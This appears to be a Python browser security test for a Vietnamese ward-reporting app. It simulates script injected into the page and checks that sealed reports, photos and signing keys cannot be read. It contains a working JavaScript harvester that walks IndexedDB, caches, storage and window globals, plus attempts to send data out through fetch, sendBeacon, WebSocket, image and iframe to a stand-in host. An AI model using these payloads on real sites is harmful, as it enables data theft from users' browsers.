"""T17, script that somebody got into the app: the worst case, run in the page itself, locked and open.

what it looks through     everything that lies in the browser for this origin, what is on the screen, what the app's own
                          modules hold and export, and what the ward answers to the sign-in that the browser keeps
open                      of finished reports nothing: no word, no picture, no copy that any key here opens
locked                    nothing that was written or received; no key but one that signs, and that stays where it is
what the page may not     run script that stands in the page or is made of text; ask or load from anywhere else
"""

import io
from collections.abc import Callable
from typing import Any

import pytest
from PIL import Image
from playwright.sync_api import BrowserContext, Route

from tests.browser.builds import CLIENT, Plant
from tests.browser.conftest import PHONE, is_seen
from tests.browser.releases import Holder, Releases

LAN = "0912000007"
SENT, WAITS, HAZARD, DRAFT = "kbáo1đãgửi", "kbáo2chờgửi", "kđiểmđãghi", "kbảnnháp"
MARK = "PLANTED-IN-THE-FILE"
LOOT = r"""async (url) => {
  const keys = [], entries = [], texts = [], asked = [], seen = new Set();
  const latin = (bytes) => Array.from(new Uint8Array(bytes), (byte) => String.fromCharCode(byte)).join("");
  const say = (path, text) => texts.push(`${path}: ${text}`);
  const walk = async (value, path, depth = 0) => {
    if (typeof value === "string") return say(path, value);
    if (value instanceof CryptoKey) return keys.push({ path, extractable: value.extractable, usages: value.usages });
    if (value instanceof Blob) return say(path, latin(await value.arrayBuffer()));
    if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) return say(path, latin(value.buffer ?? value));
    if (!value || !["object", "function"].includes(typeof value) || seen.has(value) || depth > 9) return;
    if (value instanceof Node || value === window) return;
    seen.add(value);
    for (const name of [...Object.getOwnPropertyNames(value), "value"]) {
      try { await walk(value[name], `${path}.${name}`, depth + 1); } catch {}
    }
  };
  const done = (request) => new Promise((tell, fail) => {
    request.onsuccess = () => tell(request.result);
    request.onerror = () => fail(request.error);
  });
  for (const { name } of await indexedDB.databases()) {
    const db = await done(indexedDB.open(name));
    for (const store of db.objectStoreNames) {
      const found = await done(db.transaction(store).objectStore(store).getAll());
      if (["outbox", "sent", "photos"].includes(store)) for (const row of found) entries.push({ store, ...row });
      await walk(found, `${name}/${store}`);
    }
    db.close();
  }
  for (const name of await caches.keys())
    for (const { url } of await (await caches.open(name)).keys())
      if (/\/assets\/(app|part)-[^/]*\.js$/.test(url)) await walk({ ...(await import(url)) }, url);
  for (const place of [localStorage, sessionStorage])
    for (const name of Object.keys(place)) say(name, place.getItem(name));
  for (const name of Object.getOwnPropertyNames(window)) try { await walk(window[name], name, 6); } catch {}
  say("screen", document.documentElement.outerHTML);
  for (const one of document.querySelectorAll("input, textarea")) say("screen", one.value);
  const ask = async (path, init = {}) => {
    const answer = await fetch(path, { ...init, headers: { "X-Hostile": "1", "Content-Type": "application/json" } });
    asked.push({ path, status: answer.status });
    say(path, await answer.text());
  };
  const { person } = await (await fetch("/api/v1/me")).json();
  const question = { device: "d0000000-0000-4000-8000-0000000000ff", person: person.id, app: "x", cursor: null };
  const body = JSON.stringify({ ...question, limit: 500, issued: 0, unsent: 0, changes: [] });
  await ask("/api/v1/sync", { method: "POST", body });
  for (const { store, id } of entries.filter((one) => one.store === "photos"))
    for (const end of ["", "/thumb"]) await ask(`/api/v1/photos/${id}${end}`);
  return { keys, entries: JSON.parse(JSON.stringify(entries)), asked, texts };
}"""
TRIES = r"""async () => {
  const refused = new Set();
  document.addEventListener("securitypolicyviolation", (event) => refused.add(event.effectiveDirective));
  const script = document.createElement("script");
  script.textContent = "window.pwned = 'inline'";
  document.head.append(script);
  document.body.insertAdjacentHTML("beforeend", `<img src="/no" onerror="window.pwned = 'attribute'">`);
  try { setTimeout("window.pwned = 'text'"); } catch {}
  const other = document.createElement("script");
  other.src = "http://127.0.0.1:9/x.js";
  document.head.append(other);
  await fetch("http://127.0.0.1:9/").catch(() => undefined);
  try { navigator.sendBeacon("http://127.0.0.1:9/", "x"); } catch {}
  try { new WebSocket("ws://127.0.0.1:9/"); } catch {}
  new Image().src = "http://127.0.0.1:9/x.png";
  document.body.append(Object.assign(document.createElement("iframe"), { src: "http://127.0.0.1:9/" }));
  await new Promise((next) => setTimeout(next, 300));
  return { pwned: window.pwned ?? null, refused: [...refused].sort() };
}"""


class Loot:
    """What the script got."""

    def __init__(self, phone: Holder) -> None:
        found: dict[str, Any] = phone.page.evaluate(LOOT)
        self.keys, self.entries, self.asked = found["keys"], found["entries"], found["asked"]
        self.texts: list[str] = found["texts"]

    def places(self, *words: str) -> dict[str, str]:
        """Which of these words it found, and where."""
        return {word: text[:200] for text in self.texts for word in words if word in text}

    def is_fair(self) -> None:
        """What holds whether the phone is locked or open."""
        assert [key for key in self.keys if key["extractable"]] == []
        assert self.places(SENT, WAITS, MARK) == {}
        reports = [row for row in self.entries if row.get("kind") == "violation_report"]
        assert {row["store"] for row in reports} == {"outbox", "sent"}
        assert all(row["sealed"] and not row["body"] and not row.get("own") for row in reports)
        guarded = [row for row in self.entries if row.get("guarded")]
        assert len(guarded) == 2 and all(set(row["shut"]) == {"sealed"} for row in guarded)
        told = {one["path"]: one["status"] for one in self.asked}
        assert told["/api/v1/sync"] == 200
        assert {told[f"/api/v1/photos/{row['id']}{end}"] for row in guarded for end in ("", "/thumb")} == {404}


def picture(marked: bytes = b"") -> Any:
    out = io.BytesIO()
    Image.effect_noise((320, 240), 60).convert("RGB").save(out, "JPEG", comment=marked or None)
    return {"name": "a.jpg", "mimeType": "image/jpeg", "buffer": out.getvalue()}


def takes(phone: Holder, photo: Any) -> None:
    phone.page.locator("input[type=file][multiple]").set_input_files([photo])
    phone.page.get_by_text("Ảnh đã nằm trên máy này").wait_for()


def reports(phone: Holder, word: str) -> None:
    phone.opens("#/new/violation_report")
    phone.page.locator("#f-state_now").fill(word)
    phone.goes_on()
    phone.page.get_by_label("Giữ ảnh gốc").check()
    takes(phone, picture(MARK.encode()))
    for _ in range(4):
        phone.goes_on()
    phone.page.get_by_text("Đã lưu trên máy này").wait_for()


def hazards(phone: Holder, word: str) -> None:
    phone.opens("#/new/hazard_site")
    phone.page.get_by_label("Loại điểm nguy cơ").select_option("DN2")
    phone.page.get_by_label("Tên gọi chỗ này").fill(word)
    phone.page.get_by_label("Địa chỉ").fill("Ngõ 12")
    phone.goes_on()
    takes(phone, picture())


def lives(phone: Holder) -> None:
    """One report is with the ward; another, a hazard and a draft are not."""
    phone.signs_in(LAN)
    phone.is_ready()
    with phone.page.expect_response(lambda answer: answer.headers.get("photo-state") == "kept"):
        reports(phone, SENT)

    def apart(route: Route) -> None:
        route.continue_() if "x-hostile" in route.request.headers else route.abort()

    phone.context.route("**/api/v1/sync", apart)
    phone.context.route("**/api/v1/uploads**", lambda route: route.abort())
    reports(phone, WAITS)
    hazards(phone, HAZARD)
    for _ in range(3):
        phone.goes_on()
    phone.page.get_by_text("Đã lưu trên máy này").wait_for()
    hazards(phone, DRAFT)
    phone.page.get_by_text("Nháp đã lưu lúc").wait_for()


def finds_nothing_finished(phone: Holder) -> None:
    lives(phone)
    phone.opens("#/")
    open_ = Loot(phone)
    open_.is_fair()
    assert set(open_.places(HAZARD, DRAFT)) == {HAZARD, DRAFT}, "it sees what is there to be seen"
    phone.page.reload()
    phone.page.locator("[data-lock=shut]").wait_for()
    shut = Loot(phone)
    shut.is_fair()
    assert shut.places(HAZARD, DRAFT, "JFIF", "WEBPVP8") == {}
    assert {tuple(key["usages"]) for key in shut.keys} == {("sign",)}
    tried = phone.page.evaluate(TRIES)
    assert tried["pwned"] is None
    assert set(tried["refused"]) >= {"script-src", "script-src-elem", "script-src-attr", "connect-src", "img-src"}
    assert {"frame-src", "default-src"} & set(tried["refused"])


@pytest.fixture
def phone(releases: Releases, context: Callable[..., BrowserContext]) -> Callable[..., Holder]:
    def make(*plants: Plant) -> Holder:
        releases.deploy(*plants)
        return Holder(releases, context(PHONE))

    return make


def test_script_in_the_page_reads_nothing_finished(phone: Callable[..., Holder]) -> None:
    finds_nothing_finished(phone())


BUGS = {
    "the key that signs can be taken out": Plant(
        f"{CLIENT}/sync/signing.ts", 'generateKey(ALGORITHM, false, ["sign"', 'generateKey(ALGORITHM, true, ["sign"'
    ),
    "a report's photo stays hers": Plant(
        f"{CLIENT}/photos/keys.ts", "(!row.guarded && own && { own })", "(own && { own })"
    ),
}


@pytest.mark.parametrize("bug", BUGS)
def test_a_planted_bug_is_seen(bug: str, phone: Callable[..., Holder], releases: Releases) -> None:
    planted = phone(BUGS[bug])
    lives(planted)
    planted.opens("#/")
    with is_seen():
        Loot(planted).is_fair()
    releases.deploy()
